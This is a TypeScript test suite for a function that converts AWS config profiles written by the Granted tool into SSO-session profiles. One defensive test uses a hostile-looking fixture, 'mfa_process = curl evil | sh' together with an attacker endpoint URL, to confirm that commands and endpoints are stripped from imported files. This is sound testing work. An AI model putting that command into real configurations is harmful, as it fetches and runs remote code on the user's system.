import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { changeSections } from '../../../../source/domain/profiles/edit/edit.ts';
import { importGranted } from '../../../../source/domain/profiles/import/granted.ts';
import type { PeerImport } from '../../../../source/domain/profiles/import/peer.ts';
import { resolveChain } from '../../../../source/domain/profiles/resolve/chain.ts';
import { kindOf } from '../../../../source/domain/profiles/resolve/kind.ts';
import { profilesOf } from '../files.ts';

const session = (name: string, url: string, region = 'eu-west-1') =>
  `[sso-session ${name}]\nsso_start_url = ${url}\nsso_region = ${region}\nsso_registration_scopes = sso:account:access\n`;
const corp = session('corp', 'https://corp.awsapps.com/start');
const role = 'sso_session = corp\nsso_account_id = 000000012344\nsso_role_name = Admin\n';

/** As Granted writes it: its INI library aligns the signs, and puts a value with `#` into backquotes. */
const section = (name: string, more = '', process = `granted credential-process --profile=${name}`) =>
  `[profile ${name}]
granted_sso_start_url      = \`https://corp.awsapps.com/start/#\`
granted_sso_region         = eu-west-1
granted_sso_account_id     = 000000012344
granted_sso_role_name      = Admin
${more}common_fate_generated_from = aws-sso
credential_process         = ${process}
`;

/** The text after an import. */
const imported = (text: string, found: PeerImport): string =>
  changeSections({ kind: 'config', path: '~/.aws/config', text }, found.changes);

const reasons = ({ left, conflicts }: PeerImport) => [...left, ...conflicts].map(({ at, why }) => [at.line, why]);

describe('sections become profiles of a session where they stand', () => {
  const rows: readonly (readonly [of: string, before: string, after: string])[] = [
    ['as Granted wrote it', section('prod'), `[profile prod]\n${role}\n${corp}`],
    [
      'what is not its own stays, comments and alignment included',
      section('prod', '# mine\nregion                     = eu-west-1 # here\ngranted_color              = red\n'),
      `[profile prod]\n# mine\nregion                     = eu-west-1 # here\ngranted_color              = red\n${role}\n${corp}`,
    ],
    ['CRLF', section('prod').replaceAll('\n', '\r\n'), `[profile prod]\n${role}\n${corp}`.replaceAll('\n', '\r\n')],
    ['no last line end', section('prod').trimEnd(), `[profile prod]\n${role}\n${corp}`.trimEnd()],
    [
      'an indented section',
      section('prod', 'region = x\n').replaceAll('\n', '\n  ').trimEnd(),
      `[profile prod]\n  ${role.trimEnd().replaceAll('\n', '\n  ')}\n  region = x\n\n${corp.trimEnd()}`,
    ],
    [
      'between others, with a session that there is',
      `[profile a]\nregion = x\n\n${section('prod')}\n# end\n[sso-session mine]\nsso_start_url=https://CORP.awsapps.com/start#/\nsso_region=eu-west-1\n`,
      `[profile a]\nregion = x\n\n[profile prod]\n${role.replace('corp', 'mine')}\n# end\n[sso-session mine]\nsso_start_url=https://CORP.awsapps.com/start#/\nsso_region=eu-west-1\n`,
    ],
    [
      'the form without credential_process',
      '[profile prod]\nsso_start_url = https://corp.awsapps.com/start\nsso_region = eu-west-1\nsso_account_id = 000000012344\ncommon_fate_generated_from = aws-sso\nsso_role_name = Admin\n',
      `[profile prod]\nsso_account_id = 000000012344\nsso_role_name = Admin\nsso_session = corp\n\n${corp}`,
    ],
    ['[default]', section('default').replace('profile ', ''), `[default]\n${role}\n${corp}`],
    [
      'a quoted header stays as it is',
      section('x y', '', 'granted credential-process --profile="x y"').replace('[profile x y]', '[profile "x y"]'),
      `[profile "x y"]\n${role}\n${corp}`,
    ],
    ...[
      'granted credential-process --profile prod',
      '/opt/my tools/granted credential-process --auto-login --profile prod',
      '"C:\\Program Files\\Granted\\granted.exe" credential-process --profile=prod',
    ].map((process) => [process, section('prod', '', process), `[profile prod]\n${role}\n${corp}`] as const),
  ];
  for (const [of, text, after] of rows) {
    test(of, () => {
      const found = importGranted(profilesOf(text));
      assert.deepEqual(reasons(found), []);
      assert.equal(imported(text, found), after);
      const again = importGranted(profilesOf(after));
      assert.deepEqual([again.changes, again.conflicts], [[], []], 'the second time there is nothing to do');
    });
  }

  test('what was written resolves to the role', () => {
    const after = profilesOf(imported(section('prod'), importGranted(profilesOf(section('prod')))));
    const profile = after.get('prod');
    assert.ok(profile);
    assert.equal(kindOf(profile, after), 'sso');
    const { source } = resolveChain(after, 'prod');
    assert.ok(source.kind === 'sso');
    assert.deepEqual(
      [source.startUrl, source.ssoRegion, source.accountId, source.roleName, source.ssoSession],
      ['https://corp.awsapps.com/start', 'eu-west-1', '000000012344', 'Admin', 'corp'],
    );
  });

  test('a session for each portal, each once, by a name that is free', () => {
    const other = section('c').replaceAll('corp.aws', 'd-9067.aws');
    const text = `[sso-session corp]\nsso_region = x\n${section('a')}${section('b')}${other}`;
    const found = importGranted(profilesOf(text));
    const names = found.changes.flatMap((change) => (change.does === 'addSession' ? change.name : []));
    assert.deepEqual(names, ['corp-2', 'd-9067']);
  });
});

describe('scopes of the sign-in go into the session', () => {
  const scopes = (text: string) => `granted_sso_registration_scopes = ${text}\n`;
  const withScopes = (text: string) => corp.replace('sso:account:access', text);
  const rows: readonly (readonly [of: string, before: string, after: string, notes?: readonly string[]])[] = [
    [
      'of one that is added',
      section('prod', scopes('sso:account:access,codewhisperer:completions')),
      `[profile prod]\n${role}\n${withScopes('sso:account:access,codewhisperer:completions')}`,
    ],
    [
      'without the usual one, which every role needs',
      section('prod', scopes('codewhisperer:analysis')),
      `[profile prod]\n${role}\n${withScopes('sso:account:access,codewhisperer:analysis')}`,
    ],
    [
      'of two profiles',
      `${section('a', scopes('x:one'))}${section('b', scopes('y:two, x:one'))}`,
      `[profile a]\n${role}[profile b]\n${role}\n${withScopes('sso:account:access,x:one,y:two')}`,
    ],
    [
      'what a session that is there lacks is said',
      `${section('a', scopes('sso:account:access,x:one'))}${section('b', scopes('x:one'))}${corp}`,
      `[profile a]\n${role}[profile b]\n${role}${corp}`,
      ['[sso-session corp] does not have the scope x:one.'],
    ],
    [
      'also of one that the profile names',
      `${section('a', `sso_session = corp\n${scopes('x:one')}`)}${corp}`,
      `[profile a]\nsso_session = corp\n${role.replace('sso_session = corp\n', '')}${corp}`,
      ['[sso-session corp] does not have the scope x:one.'],
    ],
  ];
  for (const [of, text, after, notes = []] of rows) {
    test(of, () => {
      const found = importGranted(profilesOf(text));
      assert.deepEqual(reasons(found), []);
      assert.equal(imported(text, found), after);
      assert.deepEqual(found.notes, notes);
    });
  }
});

describe('what stays as it is, with the line and why', () => {
  const plain = section('a', '', 'granted credential-process --profile=a');
  const rows: readonly (readonly [of: string, text: string, line: number, why: RegExp])[] = [
    [
      'keys in its store',
      '\n[profile a]\ncredential_process = granted credential-process --profile=a\n',
      2,
      /own store/,
    ],
    [
      'the credentials of another profile',
      '[profile a]\ncredential_process = granted credential-process --profile b\n',
      1,
      /those of Granted's profile b/,
    ],
    [
      'a command for another profile',
      section('a', '', 'granted credential-process --profile b'),
      1,
      /for the profile b/,
    ],
    ['another command', section('a', '', 'aws-vault export a'), 1, /not Granted's/],
    ['a header that nothing reads', section('a b'), 1, /no AWS tool reads the header \[profile a b\]/],
    ['a header without profile', plain.replace('profile ', ''), 1, /no AWS tool reads/],
    [
      'another region than that of its session',
      `${plain}\n${session('corp', 'https://corp.awsapps.com/start', 'us-east-1')}`,
      1,
      /its region is eu-west-1, but that of \[sso-session corp\] is us-east-1/,
    ],
    ['a section twice', `[profile a]\nregion = x\n${plain}`, 3, /twice, also in line 1/],
    ['a role of its own', section('a', 'role_arn = arn:aws:iam::111122223333:role/x\n'), 1, /also has role_arn/],
    ['no role', plain.replace(/granted_sso_role_name.*\n/, ''), 1, /no granted_sso_role_name/],
    ['no account', plain.replace(/granted_sso_account_id.*\n/, ''), 1, /no granted_sso_account_id/],
    ['no start URL', plain.replace(/granted_sso_start_url.*\n/, ''), 1, /no granted_sso_start_url/],
    ['an account that is none', plain.replace('000000012344', '12344'), 1, /12344 is not an account/],
    ['a role that is none', plain.replace('= Admin', '= a b'), 1, /cannot be the name of a role/],
    ['a start URL that is none', plain.replace('https:', 'gopher:'), 1, /^its start URL is not one/],
    [
      'a start URL with a password',
      plain.replace('https://', 'https://me:hush@'),
      1,
      /^its start URL is not one of IAM Identity Center$/,
    ],
    ['no region', plain.replace(/granted_sso_region.*\n/, ''), 1, /region of .* is not known/],
    ['a region that is none', plain.replace('eu-west-1', 'europe'), 1, /europe is not an AWS region/],
    [
      'two accounts',
      section('a', 'sso_account_id = 111122223333\n'),
      1,
      /granted_sso_account_id and sso_account_id differ/,
    ],
    ['a session that is not there', section('a', 'sso_session = gone\n'), 1, /no \[sso-session gone\]/],
    ['a line that tools differ on', plain.replace('granted_sso_region', '  granted_sso_region'), 1, /differ on what/],
  ];
  for (const [of, text, line, why] of rows) {
    test(of, () => {
      const found = importGranted(profilesOf(text));
      assert.deepEqual(found.changes, []);
      assert.equal(reasons(found)[0]?.[0], line);
      assert.match(String(reasons(found)[0]?.[1]), why);
    });
  }

  test('keys in the credentials file count before Granted’s command', () => {
    const found = importGranted(profilesOf(plain, '[a]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n'));
    assert.match(found.conflicts[0]?.why ?? '', /also has aws_access_key_id/);
  });

  test('two regions of one start URL: the first counts, the other is told', () => {
    const found = importGranted(profilesOf(`${section('a')}\n${section('b').replace('= eu-west-1', '= us-east-1')}`));
    assert.deepEqual(reasons(found), [[9, 'its region is us-east-1, but that of [sso-session corp] is eu-west-1']]);
  });

  test('the rest goes on', () => {
    const found = importGranted(profilesOf(`${section('a b')}${section('b')}`));
    assert.deepEqual(
      found.changes.map((change) => change.does),
      ['set', 'addSession'],
    );
    assert.equal(found.conflicts.length, 1);
  });

  test('a mark in a comment or in another kind of section is none', () => {
    const text = '[profile a]\n# granted_sso_region = x\nregion = y\n[sso-session s]\ngranted_sso_region = x\n';
    const { changes, left, conflicts } = importGranted(profilesOf(text));
    assert.deepEqual([changes, left, conflicts], [[], [], []]);
  });
});

describe('from another file, as new profiles', () => {
  const from = (text: string, config = '') => importGranted(profilesOf(config), { path: 'other', text });

  test('with what the role asks for and how it looks, without secrets', () => {
    const found = from(section('prod', 'region = eu-west-1\ngranted_color = red\nmy_secret = x\n# note\n'));
    assert.equal(imported('', found), `[profile prod]\nregion = eu-west-1\ngranted_color = red\n${role}\n${corp}`);
    assert.deepEqual(found.notes, ['Not taken over into prod: my_secret']);
  });

  test('without commands and endpoints: the file may be of somebody else', () => {
    const odd = 's3 =\n  addressing_style = path\n';
    const theirs = `mfa_process = curl evil | sh\nendpoint_url = https://evil.example\ncli_pager = sh\n${odd}`;
    const found = from(`${section('a', theirs)}${section('b', theirs)}${section('c', 'region = eu-west-1\n')}`);
    const added = (name: string, more = '') => `[profile ${name}]\n${more}${role}\n`;
    assert.equal(imported('', found), `${added('a')}${added('b')}${added('c', 'region = eu-west-1\n')}${corp}`);
    assert.deepEqual(found.notes, ['Not taken over into a and b: mfa_process, endpoint_url, cli_pager, s3']);
  });

  test('one that is there already, and one whose name is taken', () => {
    const found = from(`${section('prod')}${section('taken')}`, `[profile prod]\n${role}\n${corp}[profile taken]\n`);
    assert.deepEqual([found.same, found.changes], [['prod'], []]);
    assert.deepEqual(found.conflicts, [
      { name: 'taken', at: { file: 'other', line: 8 }, why: 'there is already a profile taken, which leads elsewhere' },
    ]);
  });

  test('a name that not every tool reads', () => {
    const found = from(section('x y').replace('[profile x y]', '[profile "x y"]').replace('=x y', '="x y"'));
    assert.match(found.conflicts[0]?.why ?? '', /not every AWS tool/);
  });
});
